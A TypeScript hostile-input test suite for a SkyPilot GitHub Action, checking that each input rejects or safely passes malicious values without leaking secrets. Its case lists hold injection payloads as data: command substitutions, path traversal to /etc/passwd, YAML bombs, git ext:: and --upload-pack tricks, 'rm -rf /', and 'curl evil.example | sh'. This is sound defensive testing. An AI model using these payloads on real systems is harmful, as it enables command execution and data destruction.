import fs from 'node:fs'
import path from 'node:path'
import { startFakeServer, type FakeServer, type FakeSky } from '../fake-sky/index.mjs'
import { everythingVisible, ROOT, runMain, runPost, type StepResult } from '../helpers/runner.js'
import { Checks, closedPort, errorText, fakeSky, filesUnder, oneLine, pool, table, tempDir, withSky } from './common.js'
import { withoutJobPrefixes } from '../helpers/fakes.js'

/**
 * Hostile-input suite: every input of action.yml tried with hostile values. Each case is either
 * rejected before any `sky` call with a message that names the input and says how to fix it, or
 * passed through safely as one argument (nothing executed, the job sees the literal text). In every
 * case no secret (token, endpoint password, secret values, kubeconfig token, git credentials)
 * appears in anything a user can see or that is left behind.
 */

export interface HostileRow {
  id: string
  input: string
  /** 'rejected' or 'passed' as expected, else what happened. */
  result: string
  held: boolean
  failed: string[]
  message: string
  open?: string
}

/** What the suite passes to every case, so that every case is also a leak test. */
interface Fixture {
  server: FakeServer
  endpoint: string
  token: string
  password: string
  canary: string
  markers: string
  closedPort: number
}

interface Ran {
  main: StepResult
  post: StepResult
  sky: FakeSky
  ws: string
  marker: string
  fx: Fixture
}

interface HostileCase {
  id: string
  input: string
  expect: 'reject' | 'pass'
  /** Inputs of the case; `{M}` is replaced by this case's marker file. */
  inputs: Record<string, string>
  /** The rejection message must match this (default: the input's name in quotes). */
  names?: RegExp
  /** More secret values the case brings (scanned for). */
  secrets?: string[]
  setup?: (ws: string) => void
  /** Extra checks (for passed cases: the argument reached sky and the job verbatim). */
  verify?: (r: Ran, c: Checks) => void | Promise<void>
  /** Leave out the default api server, token and secret (for cases about them). */
  bare?: boolean
  /** A known bug outside this suite's reach: the case must still fail (remove this once fixed). */
  open?: string
}

const HINT = /\b(must|give|use|set|remove|rename|keep|move|quote|write|flatten|fix|check|expected|add|simplify|split|choose|pass|leave|declare|did you mean|valid keys)\b/i
const ECHO_TASK = [
  'name: echo',
  'envs:',
  '  MSG: default',
  'run: |',
  `  printf 'MSG=[%s]\\n' "$MSG"`,
  `  if [ -n "\${CANARY:-}" ]; then printf 'CANARY-SHA=%s\\n' "$(printf %s "$CANARY" | sha256sum | cut -c1-16)"; fi`,
  ''
].join('\n')
const SOURCE_INPUTS = ['task', 'task-yaml', 'tasks', 'base-path']

/** stdout without the job's log (between ::stop-commands::T and ::T::, where the runner ignores commands). */
function outsideJobLog(stdout: string): string {
  return stdout.replace(/^::stop-commands::(.+)$[\s\S]*?^::\1::$/gm, '')
}

const sha16 = async (text: string): Promise<string> => (await import('node:crypto')).createHash('sha256').update(text).digest('hex').slice(0, 16)
const launchArgv = (s: FakeSky): string[] => s.calls().find((c) => c.argv[0] === 'launch')?.argv ?? []
const billionLaughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`), 'run: echo hi', ''].join('\n')
const deep = (n: number) => `run: echo hi\nx: ${'['.repeat(n)}${']'.repeat(n)}\n`
const deepBlock = (n: number) => `run: echo hi\nx:\n${Array.from({ length: n }, (_, i) => `${'  '.repeat(i + 1)}k:`).join('\n')} 1\n`

function reject(id: string, input: string, value: string, extra: Partial<HostileCase> = {}): HostileCase {
  return { id, input, expect: 'reject', inputs: { [input]: value }, ...extra }
}
function rejects(input: string, values: [string, string][], extra: Partial<HostileCase> = {}): HostileCase[] {
  return values.map(([id, value]) => reject(id, input, value, extra))
}

export function hostileCases(): HostileCase[] {
  // Problems inside the task text are annotated on the task (file and line): they name the task or its YAML.
  const taskNames = /\btask\b|task-yaml|YAML/i
  const cases: HostileCase[] = [
    // ---- task-yaml: malformed, huge, bombs, unknown keys, wrong types, bad env names ----
    reject('malformed YAML', 'task-yaml', 'name: x\nrun: [unclosed\n  setup: echo', { names: taskNames }),
    reject('deeply nested (flow, 20000)', 'task-yaml', deep(20000), { names: taskNames }),
    reject('deeply nested (block, 300)', 'task-yaml', deepBlock(300), { names: taskNames }),
    reject('billion laughs (aliases)', 'task-yaml', billionLaughs, { names: taskNames }),
    reject('unknown top-level key', 'task-yaml', 'name: x\nsetupp: echo\nrun: echo hi\n', { names: /setupp/ }),
    reject('wrong type: num_nodes: two', 'task-yaml', 'num_nodes: two\nrun: echo hi\n', { names: /num_nodes/ }),
    reject('wrong type: envs is a list', 'task-yaml', 'envs: [A, B]\nrun: echo hi\n', { names: /envs/ }),
    reject('wrong type: run is a map', 'task-yaml', 'run: {a: 1}\n', { names: /run/ }),
    reject('invalid env name 1BAD in task', 'task-yaml', 'envs:\n  1BAD: x\nrun: echo hi\n', { names: /1BAD/ }),
    reject('invalid env name with $(...) in task', 'task-yaml', 'envs:\n  "$(touch {M})": x\nrun: echo hi\n', { names: /envs/ }),
    reject('python tag (code execution in PyYAML)', 'task-yaml', 'run: !!python/object/apply:os.system ["touch {M}"]\n', { names: /tag/ }),
    reject('task name with $(...)', 'task-yaml', 'name: "$(touch {M})"\nrun: echo hi\n', { names: /name/ }),
    reject('required env not given', 'task-yaml', 'envs:\n  NEEDED: null\nrun: echo $NEEDED\n', { names: /NEEDED/ }),
    reject('pipeline with mode launch', 'task-yaml', 'name: a\nrun: echo 1\n---\nname: b\nrun: echo 2\n', { names: /task|pipeline|document|managed/i }),
    reject('duplicate keys', 'task-yaml', 'run: echo 1\nrun: echo 2\n', { names: /run|duplicate/i }),
    reject('task-yaml together with task', 'task-yaml', 'run: echo hi\n', { inputs: { 'task-yaml': 'run: echo hi\n', task: 'examples/echo.yaml' } }),

    // ---- task: traversal, absolute, symlinks, huge file, metacharacters ----
    ...rejects('task', [
      ['../../etc/passwd', '../../etc/passwd'],
      ['absolute /etc/passwd', '/etc/passwd'],
      ['examples/../../../etc/passwd', 'examples/../../../etc/passwd'],
      ['a directory', 'examples'],
      ['missing file', 'examples/missing.yaml'],
      ['$(...) in the path', 'examples/$(touch {M}).yaml'],
      ['backticks and quotes in the path', "examples/`touch {M}`'\".yaml"],
      ['newline in the path', 'examples/echo.yaml\n--down'],
      ['option look-alike', '--help']
    ]),
    reject('symlink to a file outside', 'task', 'examples/evil.yaml', { setup: (ws) => fs.symlinkSync('/etc/passwd', path.join(ws, 'examples', 'evil.yaml')) }),
    reject('symlinked directory outside', 'task', 'linked/passwd', { setup: (ws) => fs.symlinkSync('/etc', path.join(ws, 'linked')) }),
    reject('file > 1 MiB', 'task', 'examples/huge.yaml', {
      names: /huge|task/i,
      setup: (ws) => fs.writeFileSync(path.join(ws, 'examples', 'huge.yaml'), `run: echo hi\n# ${'x'.repeat(1100 * 1024)}\n`)
    }),

    // ---- base-path: traversal, absolute, symlink, git URLs ----
    ...rejects('base-path', [
      ['base-path ..', '..'],
      ['base-path absolute /etc', '/etc'],
      ['base-path ../../', '../../'],
      ['base-path plain http', 'http://github.com/acme/tasks'],
      ['ext:: transport', 'ext::sh -c touch% {M}'],
      ['option look-alike -u...', '-uhttps://github.com/acme/tasks']
    ]).map((c) => ({ ...c, inputs: { ...c.inputs, task: 'passwd' } })),
    reject('symlinked directory outside', 'base-path', 'linked', { inputs: { 'base-path': 'linked', task: 'passwd' }, setup: (ws) => fs.symlinkSync('/etc', path.join(ws, 'linked')) }),
    reject('git URL with credentials', 'base-path', 'https://ci-user:ghp_hostileGitToken123@github.com/acme/tasks.git', {
      inputs: { 'base-path': 'https://ci-user:ghp_hostileGitToken123@github.com/acme/tasks.git', task: 'train.yaml' },
      secrets: ['ghp_hostileGitToken123']
    }),
    reject('ssh URL with -oProxyCommand host', 'base-path', 'ssh://-oProxyCommand=touch%20{M}/x', { inputs: { 'base-path': 'ssh://-oProxyCommand=touch%20{M}/x', task: 'a.yaml' } }),

    // ---- git-ref ----
    ...rejects('git-ref', [
      ['git-ref ; touch', 'main; touch {M}'],
      ['git-ref $(...)', '$(touch {M})'],
      ['git-ref backticks', '`touch {M}`'],
      ['git-ref --upload-pack', '--upload-pack=touch {M}'],
      ['git-ref ..', 'main..other'],
      ['git-ref newline', 'main\n--depth=1'],
      ['git-ref quotes', `"main'`]
    ]).map((c) => ({ ...c, inputs: { ...c.inputs, 'base-path': 'https://github.com/acme/tasks.git', task: 'train.yaml' } })),

    // ---- envs ----
    ...rejects('envs', [
      ['env name 1BAD', '1BAD=x'],
      ['env name A-B', 'A-B=x'],
      ['env name with space', 'BAD NAME=x'],
      ['env name $(...)', '$(touch {M})=x'],
      ['env name --down', '--down=x'],
      ['line without =', 'JUST_A_WORD'],
      ['alias in envs map', '{a: &x hi, b: *x}'],
      ['duplicate env', 'A=1\nA=2'],
      ['list value', '{"A": [1, 2]}'],
      ['malformed map', '{"A": "x"']
    ]),

    // ---- secrets ----
    ...rejects('secrets', [
      ['secret name 1BAD', '1BAD=x'],
      ['reserved PATH', 'PATH=/tmp/evil'],
      ['reserved LD_PRELOAD', 'LD_PRELOAD=/tmp/evil.so'],
      ['reserved SKYPILOT_API_SERVER_ENDPOINT', 'SKYPILOT_API_SERVER_ENDPOINT=http://evil.example'],
      ['map value', '{"CANARY": {"a": 1}}']
    ]),
    reject('secret line without = (value must not leak)', 'secrets', 'CANARY hf_leakedIfEchoed123', { secrets: ['hf_leakedIfEchoed123'] }),
    reject('secret YAML error (value must not leak)', 'secrets', '{"CANARY": "hf_leakInYamlError456" "B"', { secrets: ['hf_leakInYamlError456'] }),
    reject('same key in envs and secrets', 'secrets', 'CANARY=x', { inputs: { secrets: 'CANARY=hf_dupSecret789', envs: 'CANARY=y' }, secrets: ['hf_dupSecret789'], names: /CANARY/ }),

    // ---- names and resources ----
    ...rejects('cluster-name', [
      ['cluster $(...)', '$(touch {M})'],
      ['cluster backticks', '`touch {M}`'],
      ['cluster quotes', `a'b"c`],
      ['cluster newline', 'a\nb'],
      ['cluster --down', '--down'],
      ['cluster with space', 'a b'],
      ['cluster ../', '../etc'],
      ['cluster reserved prefix', 'sky-jobs-controller-x1']
    ]),
    ...rejects('cluster-prefix', [
      ['prefix $(...)', '$(touch {M})'],
      ['prefix too long', 'p'.repeat(40)]
    ]),
    ...rejects('job-name', [
      ['job-name $(...)', '$(touch {M})'],
      ['job-name quotes', `a"b`],
      ['job-name newline', 'a\nb']
    ]),
    reject('job-index ; touch', 'job-index', '1; touch {M}'),
    ...rejects('infra', [
      ['infra ; touch', 'aws; touch {M}'],
      ['infra $(...)', '$(touch {M})'],
      ['infra newline + option', 'aws\n--gpus'],
      ['infra --cloud=', '--cloud=aws'],
      ['infra 4 parts', 'aws/us-east-1/us-east-1a/x']
    ]),
    ...rejects('gpus', [
      ['gpus with option', 'A100:1 --use-spot'],
      ['gpus $(...)', '$(touch {M})'],
      ['gpus negative', 'A100:-1'],
      ['gpus backticks', '`id`']
    ]),
    ...rejects('cpus', [
      ['cpus ; touch', '4; touch {M}'],
      ['cpus negative', '-1'],
      ['cpus $(nproc)', '$(nproc)'],
      ['cpus 4++', '4++']
    ]),
    ...rejects('memory', [
      ['memory newline', '16\n--x'],
      ['memory negative', '-16']
    ]),
    ...rejects('mode', [['mode ; rm', 'launch; rm -rf /']]),
    ...rejects('use-spot', [['use-spot maybe', 'maybe']]),
    ...rejects('down', [['down yes please', 'yes please']]),
    ...rejects('detach', [['detach $(...)', '$(touch {M})']]),
    ...rejects('fail-fast', [['fail-fast perhaps', 'perhaps']]),
    ...rejects('retry-on-job-failure', [['retry-on-job-failure 2', '2']]),
    ...rejects('dry-run', [['dry-run sure', 'sure']]),
    reject('job-recovery ; rm', 'job-recovery', 'EAGER; rm -rf /', { inputs: { 'job-recovery': 'EAGER; rm -rf /', mode: 'managed' } }),
    reject('job-recovery $(...)', 'job-recovery', '$(touch {M})', { inputs: { 'job-recovery': '$(touch {M})', mode: 'managed' } }),
    ...rejects('job-id', [
      ['job-id ; rm', '1; rm -rf /'],
      ['job-id negative', '-1'],
      ['job-id $(...)', '$(id)']
    ]).map((c) => ({ ...c, inputs: { ...c.inputs, mode: 'collect', task: '' } })),

    // ---- numbers ----
    ...(
      [
        ['num-nodes', ['-1', '0', 'two', '1e3', '99999999999999999999', '0x10', '3.5', '1 --down']],
        ['retries', ['-1', 'x', '21', '1; touch {M}']],
        ['disk-size', ['-5', 'abc', '0']],
        ['idle-minutes-to-autostop', ['-1', 'ten', '1.5']],
        ['max-parallel', ['0', '-2', 'x', '257']],
        ['wait-minutes', ['-1', 'x', '99999999']],
        ['retry-delay-seconds', ['-1', '1e9']]
      ] as [string, string[]][]
    ).flatMap(([input, values]) => values.map((v) => reject(`${input} ${JSON.stringify(v)}`, input, v))),
    ...['-3', 'twelve', '1e9', '12; sky down -a -y'].map((v) => ({
      ...reject(`max-age-hours ${JSON.stringify(v)}`, 'max-age-hours', v),
      inputs: { mode: 'down', task: '', 'max-age-hours': v }
    })),

    // ---- install ----
    ...rejects('skypilot-version', [
      ['version ; curl | sh', '0.14.1; curl evil.example | sh'],
      ['version >=', '>=0.1'],
      ['version --index-url', '0.14.1 --index-url=http://evil.example'],
      ['version ../', '../../x']
    ]),
    ...rejects('skypilot-extras', [
      ['extras --index-url', 'aws,--index-url=http://evil.example'],
      ['extras ]', 'aws]'],
      ['extras ;', 'aws;touch {M}']
    ]),

    // ---- access ----
    ...rejects('api-server-endpoint', [
      ['endpoint javascript:', 'javascript:alert(1)'],
      ['endpoint ftp:', 'ftp://example.com'],
      ['endpoint not a URL', 'not a url'],
      ['endpoint file:', 'file:///etc/passwd']
    ]),
    reject('endpoint with password, unreachable', 'api-server-endpoint', '', {
      names: /api-server-endpoint/,
      bare: true,
      secrets: ['pw-unreachable-9876'],
      inputs: { 'api-server-endpoint': 'http://ci:pw-unreachable-9876@127.0.0.1:{CLOSED}' }
    }),
    reject('token without sky_ prefix (must not echo)', 'service-account-token', 'ghp_notASkyToken_5555', { secrets: ['ghp_notASkyToken_5555'] }),
    reject('token with newline', 'service-account-token', 'sky_tokenLine1_4444\nsky_tokenLine2_3333', { secrets: ['sky_tokenLine1_4444', 'sky_tokenLine2_3333'] }),
    reject('token with space', 'service-account-token', 'sky_tokenA_2222 sky_tokenB_1111', { secrets: ['sky_tokenA_2222 sky_tokenB_1111', 'sky_tokenA_2222'] }),
    reject('token without endpoint', 'service-account-token', 'sky_noEndpointToken_0000', { bare: true, secrets: ['sky_noEndpointToken_0000'] }),

    // ---- tasks (fan-out) ----
    ...rejects('tasks', [
      ['tasks is a map', '{task: examples/echo.yaml}'],
      ['tasks is a string', 'hello'],
      ['tasks is a number', '42'],
      ['tasks is empty list', '[]'],
      ['tasks 300 items', JSON.stringify(Array.from({ length: 300 }, (_, i) => ({ task: 'examples/echo.yaml', name: `t${i}` })))],
      ['tasks name $(...)', JSON.stringify([{ task: 'examples/echo.yaml', name: '$(touch {M})' }])],
      ['tasks name ../x', JSON.stringify([{ task: 'examples/echo.yaml', name: '../x' }])],
      ['tasks duplicate names', JSON.stringify([{ task: 'examples/echo.yaml', name: 'a' }, { task: 'examples/echo.yaml', name: 'a' }])],
      ['tasks unknown key', JSON.stringify([{ task: 'examples/echo.yaml', run: 'touch {M}' }])],
      ['tasks bad env name', JSON.stringify([{ task: 'examples/echo.yaml', envs: { '1BAD': 'x' } }])],
      ['tasks alias bomb', '- &a {task: examples/echo.yaml}\n- *a\n- *a'],
      ['tasks nested list', '[[examples/echo.yaml]]'],
      ['tasks cluster-name $(...)', JSON.stringify([{ task: 'examples/echo.yaml', 'cluster-name': '$(touch {M})' }])],
      ['tasks item git-ref option', JSON.stringify([{ 'base-path': 'https://github.com/acme/t.git', task: 'a.yaml', 'git-ref': '--upload-pack=touch {M}' }])]
    ]),

    reject('tasks item task traversal', 'tasks', JSON.stringify([{ task: '../../etc/passwd', name: 'a' }]), { names: /task 'a'.*'task'/ }),

    // ---- passed through safely, as one argument ----
    {
      id: 'env value with $(...), backticks, quotes, ;',
      input: 'envs',
      expect: 'pass',
      inputs: { envs: `MSG=$(touch {M}) \`touch {M}\` 'single' "double" ; touch {M} && echo done` },
      verify: (r, c) => {
        const value = `$(touch ${r.marker}) \`touch ${r.marker}\` 'single' "double" ; touch ${r.marker} && echo done`
        const argv = launchArgv(r.sky)
        c.add('one --env argument, verbatim', argv[argv.indexOf(`MSG=${value}`) - 1] === '--env')
        c.add('the job printed the literal text', withoutJobPrefixes(r.main.stdout).includes(`MSG=[${value}]`))
      }
    },
    {
      id: 'env value with newline and workflow commands (YAML map)',
      input: 'envs',
      expect: 'pass',
      inputs: { envs: JSON.stringify({ MSG: 'line1 $(touch {M})\n::error::injected\n::set-output name=status::HACKED' }) },
      verify: (r, c) => {
        const value = `line1 $(touch ${r.marker})\n::error::injected\n::set-output name=status::HACKED`
        const argv = launchArgv(r.sky)
        c.add('one --env argument, verbatim', argv[argv.indexOf(`MSG=${value}`) - 1] === '--env')
        c.add('the job printed the literal text', withoutJobPrefixes(r.main.stdout).includes(`MSG=[${value}]`))
        c.add('status output not forged', r.main.outputs.status === 'SUCCEEDED')
        c.add('no injected ::error outside the job log', !outsideJobLog(r.main.stdout).includes('::error::injected'))
      }
    },
    {
      id: 'env value with newline in dry-run plan',
      input: 'envs',
      expect: 'pass',
      inputs: { envs: JSON.stringify({ MSG: 'x\n::error::injected-by-env' }), 'dry-run': 'true' },
      verify: (r, c) => {
        c.add('dry run', r.main.outputs.status === 'DRY_RUN')
        c.add('no workflow command injected into the plan', !outsideJobLog(r.main.stdout).split('\n').some((l) => l.startsWith('::error::injected-by-env')))
      }
    },
    {
      id: 'secret value with $(...), backticks, quotes',
      input: 'secrets',
      expect: 'pass',
      inputs: { secrets: `CANARY=hf_hostile$(touch {M})\`touch {M}\`'"x` },
      verify: async (r, c) => {
        const value = `hf_hostile$(touch ${r.marker})\`touch ${r.marker}\`'"x`
        c.add('job got the value verbatim (sha)', r.main.stdout.includes(`CANARY-SHA=${await sha16(value)}`))
        c.add('--secret CANARY (name only)', launchArgv(r.sky).join(' ').includes('--secret CANARY'))
      },
      secrets: ['hf_hostile']
    },
    {
      id: 'multi-line secret (PEM-like)',
      input: 'secrets',
      expect: 'pass',
      inputs: { secrets: JSON.stringify({ CANARY: '-----BEGIN KEY-----\nMIIEsecretLineOne111\nMIIEsecretLineTwo222\n-----END KEY-----' }) },
      secrets: ['MIIEsecretLineOne111', 'MIIEsecretLineTwo222'],
      verify: async (r, c) => {
        c.add('job got the value verbatim (sha)', r.main.stdout.includes(`CANARY-SHA=${await sha16('-----BEGIN KEY-----\nMIIEsecretLineOne111\nMIIEsecretLineTwo222\n-----END KEY-----')}`))
        for (const line of ['MIIEsecretLineOne111', 'MIIEsecretLineTwo222']) c.add(`mask for line ${line.slice(0, 8)}…`, r.main.stdout.includes(`::add-mask::${line}`))
      }
    },
    {
      id: 'endpoint with password works, never shown',
      input: 'api-server-endpoint',
      expect: 'pass',
      inputs: {},
      verify: (r, c) => {
        c.add('succeeded', r.main.outputs.status === 'SUCCEEDED')
        c.add('dashboard-url has no password', !!r.main.outputs['dashboard-url'] && !r.main.outputs['dashboard-url'].includes(r.fx.password))
        c.add('the server saw the token', r.fx.server.requests.some((q) => q.authorization === `Bearer ${r.fx.token}`))
      }
    },
    {
      id: 'kubeconfig with a token',
      input: 'kubeconfig',
      expect: 'pass',
      inputs: { kubeconfig: 'apiVersion: v1\nkind: Config\nusers:\n- name: ci\n  user:\n    token: kube-hostile-token-7777\n' },
      secrets: ['kube-hostile-token-7777'],
      verify: (r, c) => {
        c.add('succeeded', r.main.outputs.status === 'SUCCEEDED')
        c.add('kubeconfig removed by post', !!r.main.exportedEnv.KUBECONFIG && !fs.existsSync(r.main.exportedEnv.KUBECONFIG))
      }
    },
    {
      id: 'task file named with $(...) and backticks',
      input: 'task',
      expect: 'pass',
      inputs: { task: 'examples/x$(touch pwned-task)`touch pwned-task2`.yaml' },
      setup: (ws) => fs.copyFileSync(path.join(ws, 'examples', 'echo.yaml'), path.join(ws, 'examples', 'x$(touch pwned-task)`touch pwned-task2`.yaml')),
      verify: (r, c) => {
        const argv = launchArgv(r.sky)
        c.add('the task path is the last argument, verbatim', (argv.at(-1) ?? '').endsWith('examples/x$(touch pwned-task)`touch pwned-task2`.yaml'))
        const stray = [r.ws, r.sky.home, ROOT].flatMap((d) => filesUnder(d).filter((f) => /pwned-task/.test(path.basename(f)) && !f.endsWith('.yaml')))
        c.add('nothing executed', stray.length === 0)
      }
    },
    {
      id: 'fan-out item with hostile env value',
      input: 'tasks',
      expect: 'pass',
      inputs: { tasks: JSON.stringify([{ task: 'examples/echo.yaml', name: 'one', envs: { MSG: '$(touch {M}) `touch {M}`' } }]) },
      verify: (r, c) => {
        const value = `$(touch ${r.marker}) \`touch ${r.marker}\``
        c.add('one --env argument, verbatim', launchArgv(r.sky).includes(`MSG=${value}`))
        c.add('the job printed the literal text', withoutJobPrefixes(r.main.stdout).includes(`MSG=[${value}]`))
      }
    },
    {
      id: 'env value with = and unicode',
      input: 'envs',
      expect: 'pass',
      inputs: { envs: 'MSG=a=b=c ünïcødé 🚀' },
      verify: (r, c) => c.add('verbatim', r.main.stdout.includes('MSG=[a=b=c ünïcødé 🚀]'))
    }
  ]
  return cases
}

async function runCase(k: HostileCase, index: number, fx: Fixture): Promise<HostileRow> {
  const ws = tempDir('hostile-ws-')
  const marker = path.join(fx.markers, `case-${index}`)
  const sub = (v: string) => v.split('{M}').join(marker).split('{CLOSED}').join(String(fx.closedPort))
  const s = fakeSky()
  const c = new Checks()
  let main: StepResult | undefined
  let post: StepResult | undefined
  try {
    fs.cpSync(path.join(ROOT, 'examples'), path.join(ws, 'examples'), { recursive: true })
    fs.writeFileSync(path.join(ws, 'examples', 'echo.yaml'), ECHO_TASK)
    k.setup?.(ws)
    const caseInputs = Object.fromEntries(Object.entries(k.inputs).map(([n, v]) => [n, sub(v)]))
    const inputs: Record<string, string> = {
      ...(Object.keys(caseInputs).some((n) => SOURCE_INPUTS.includes(n)) || caseInputs.mode === 'collect' ? {} : { task: 'examples/echo.yaml' }),
      ...(k.bare ? {} : { 'api-server-endpoint': fx.endpoint, 'service-account-token': fx.token, secrets: `CANARY=${fx.canary}` }),
      'retry-delay-seconds': '0',
      ...caseInputs
    }
    main = await runMain(withSky(s, { inputs, workspace: ws, timeoutMs: 45_000 }))
    post = await runPost(withSky(s, { inputs, workspace: ws, runnerTemp: main.runnerTemp, state: main.state, timeoutMs: 45_000 }))
    const message = errorText(main)
    if (k.expect === 'reject') {
      c.add('main exit 1', main.code === 1)
        .add('no sky call', s.calls().length === 0)
        .add(`message names ${k.names ?? `'${k.input}'`}`, (k.names ?? new RegExp(`'${k.input}'`)).test(message))
        .add('message says how to fix it', HINT.test(message))
        .add('status INVALID', main.outputs.status === 'INVALID')
    } else {
      c.add('main exit 0', main.code === 0)
      await k.verify?.({ main, post, sky: s, ws, marker, fx }, c)
    }
    c.add('post exit 0', post.code === 0)
    c.add('nothing executed (marker absent)', !fs.existsSync(marker))
    c.add('no cluster left', s.ledger().clusters.length === 0)

    // No secret anywhere a user could see it or that is left behind.
    const secrets = [fx.token, fx.password, fx.canary, ...(k.secrets ?? [])]
    const visible = everythingVisible(main, post)
    const leftFiles = [...filesUnder(ws), ...filesUnder(main.runnerTemp)].filter((f) => fs.statSync(f).size < 4 * 1024 * 1024)
    const calls = JSON.stringify(s.calls())
    for (const secret of secrets) {
      const tag = `${secret.slice(0, 6)}…`
      c.add(`secret ${tag} not in logs/summary/outputs/state/env`, !visible.includes(secret))
      c.add(`secret ${tag} not on a sky command line`, !calls.includes(secret))
      const file = leftFiles.find((f) => fs.readFileSync(f, 'utf8').includes(secret))
      c.add(`secret ${tag} not in a file left behind${file ? ` (${path.relative(ws, file)})` : ''}`, !file)
    }
    const result = k.expect === 'reject' ? (main.code === 1 && s.calls().length === 0 ? 'rejected' : `NOT rejected (exit ${main.code}, ${s.calls().length} sky calls)`) : main.code === 0 ? 'passed through' : `failed (exit ${main.code})`
    return { id: k.id, input: k.input, result, held: c.held, failed: c.failed, message: oneLine(message.split('\n')[0] ?? '', 100), open: k.open }
  } catch (error) {
    c.add(`no exception (${String(error)})`, false)
    return { id: k.id, input: k.input, result: 'suite error', held: false, failed: c.failed, message: oneLine(String(error)) }
  } finally {
    s.cleanup()
    fs.rmSync(ws, { recursive: true, force: true })
    if (main) fs.rmSync(main.runnerTemp, { recursive: true, force: true })
  }
}

export async function runHostileSuite(opts: { concurrency?: number; only?: RegExp } = {}): Promise<HostileRow[]> {
  const password = 'pw-endpoint-Hostile-31337'
  const token = `sky_hostileSuiteToken_${Math.random().toString(36).slice(2, 10)}`
  const server = await startFakeServer({ version: '0.14.1', token, basicAuth: { user: 'ci', pass: password } })
  const markers = tempDir('hostile-markers-')
  const fx: Fixture = {
    server,
    endpoint: server.url.replace('http://', `http://ci:${password}@`),
    token,
    password,
    canary: `canary-secret-${Math.random().toString(36).slice(2, 10)}`,
    markers,
    closedPort: await closedPort()
  }
  try {
    const cases = hostileCases().filter((k) => !opts.only || opts.only.test(k.id) || opts.only.test(k.input))
    const rows = await pool(opts.concurrency ?? 4, cases.map((k, i) => () => runCase(k, i, fx)))
    // Nothing any case ran may have created a marker.
    const stray = fs.readdirSync(markers)
    if (stray.length > 0) rows.push({ id: 'markers', input: '-', result: `executed: ${stray.join(', ')}`, held: false, failed: ['marker files exist'], message: '' })
    return rows
  } finally {
    await server.close()
    fs.rmSync(markers, { recursive: true, force: true })
  }
}

export function hostileTable(rows: HostileRow[]): string {
  const inputs = [...new Set(rows.map((r) => r.input))]
  const heldInputs = inputs.filter((i) => rows.filter((r) => r.input === i).every((r) => r.held))
  const body = rows.map((r) => [r.id, r.input, r.held ? r.result : `${r.result}: ${r.open ? 'OPEN BUG' : 'FAILED'} ${r.failed.join('; ')}`])
  const open = rows.filter((r) => r.open && !r.held).map((r) => `  open: ${r.id}: ${r.open}`)
  return (
    `Hostile-input suite: ${inputs.length} inputs tried, ${heldInputs.length} held; ${rows.length} cases, ${rows.filter((r) => r.held).length} held\n` +
    table(['case', 'input', 'result'], body) +
    (open.length ? `\nKnown open bugs (outside src/inputs.ts, kv.ts, task/source.ts, access.ts):\n${open.join('\n')}` : '')
  )
}
